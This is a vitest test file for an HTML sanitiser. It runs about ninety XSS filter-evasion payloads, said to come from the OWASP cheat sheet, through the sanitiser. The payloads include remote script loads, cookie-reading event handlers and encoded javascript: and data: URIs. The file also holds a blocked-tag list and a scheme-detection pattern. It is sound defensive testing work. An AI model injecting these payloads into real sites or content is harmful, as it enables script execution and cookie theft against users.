// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { canonicaliseHref } from '@/shared/lib/navigation/guard';
import { sanitizeHtml } from './sanitize';

/** Vectors from the OWASP XSS Filter Evasion Cheat Sheet, as CMS content could carry them. */
const owaspPayloads = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  "\\\";alert('XSS');//",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT a=">\'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="http://66.102.7.147/">XSS</A>',
  '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" &#x20;javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://savat.uz/0">x</a>',
  '<img srcset="javascript:alert(1) 1x, /ok.png 2x">',
  '<img src="x" onerror=alert(1)//',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)>',
  '<p style="color:red" onclick=alert(1)>text</p>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<video><source onerror="alert(1)"></video>',
];

const blockedTags = new Set([
  'SCRIPT',
  'IFRAME',
  'FRAME',
  'FRAMESET',
  'OBJECT',
  'EMBED',
  'SVG',
  'MATH',
  'STYLE',
  'BASE',
  'META',
  'LINK',
  'FORM',
  'INPUT',
  'BUTTON',
  'BODY',
  'TEMPLATE',
  'NOSCRIPT',
  'VIDEO',
  'SOURCE',
  'DETAILS',
]);
const urlAttributes = [
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'background',
  'dynsrc',
  'lowsrc',
];

/** What is left in the sanitised markup that a browser could run. */
function executableParts(html: string): string[] {
  const container = document.createElement('div');
  container.innerHTML = html;
  const found: string[] = [];
  for (const element of container.querySelectorAll('*')) {
    if (blockedTags.has(element.tagName)) found.push(`<${element.tagName.toLowerCase()}>`);
    for (const attribute of element.getAttributeNames()) {
      const value = element.getAttribute(attribute) ?? '';
      if (/^on/i.test(attribute)) found.push(`${attribute}=`);
      if (attribute === 'style') found.push('style=');
      if (
        urlAttributes.includes(attribute) &&
        /(^|[\s,])(javascript|vbscript|data|blob):/i.test(canonicaliseHref(value))
      ) {
        found.push(`${attribute}=${value}`);
      }
    }
  }
  return found;
}

describe('sanitizeHtml against the OWASP filter-evasion list', () => {
  it.each(owaspPayloads)('leaves nothing executable in %s', (payload) => {
    const clean = sanitizeHtml(`<p>Sut</p>${payload}<p>Non</p>`, {
      origin: 'https://savat.uz',
      allowedHosts: ['media.savat.uz'],
    });
    expect(executableParts(clean)).toEqual([]);
    expect(clean).toContain('<p>Sut</p>');
  });

  it('the check itself finds what a browser would run', () => {
    expect(
      executableParts('<img src=x onerror=alert(1)><a href="java&#x09;script:x">a</a>'),
    ).toEqual(['onerror=', 'href=java\tscript:x']);
  });
});
